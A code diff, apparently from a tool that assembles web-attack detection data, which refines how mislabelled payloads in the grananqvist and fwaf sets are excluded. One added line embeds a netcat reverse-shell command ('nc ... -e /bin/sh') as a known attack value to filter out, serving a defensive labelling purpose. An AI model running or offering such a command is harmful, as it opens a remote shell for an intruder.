@@ -126,7 +126,8 @@ pub(crate) enum Excluded {
     NotOneRequest,
     /// Of rules that judge the form of a request, not its intent: protocol enforcement, sessions, responses.
     NoAttack,
-    /// A value its owners call ordinary and the owners of another set (fwaf) call an attack, but for numbers in it.
+    /// A value its owners call ordinary that is the example of a mislabelled attack in their description, or that the owners of another
+    /// set (fwaf) call an attack, but for numbers in it.
     Contradicted,
     /// Of rules of paranoia level 3 or 4, which object to signs and words as such.
     Paranoia,
@@ -515,9 +516,11 @@ fn fwaf(data: &Path, remainder: u64, names: bool, to: &mut Collector) -> Result<
     Ok(())
 }
 
-/// Its ordinary values hold some of the scans that fwaf lists as attacks (one is quoted in its description): those are left out.
+/// Its ordinary values hold attacks, as its description says and quotes: those that are the quoted one but for numbers, and those that
+/// fwaf lists as attacks, are left out.
 fn grananqvist(data: &Path, to: &mut Collector) -> Result<()> {
-    let attacks = values_of_attacks(data)?;
+    let mut attacks = values_of_attacks(data)?;
+    attacks.insert(without_numbers(b"nc 192.168.202.118 21942 -e /bin/sh"));
     for row in rows(&data.join("web-grananqvist/payloads.csv.gz"))? {
         let [_, value, _, kind, ..] = &row[..] else { continue };
         let label = match &kind[..] {
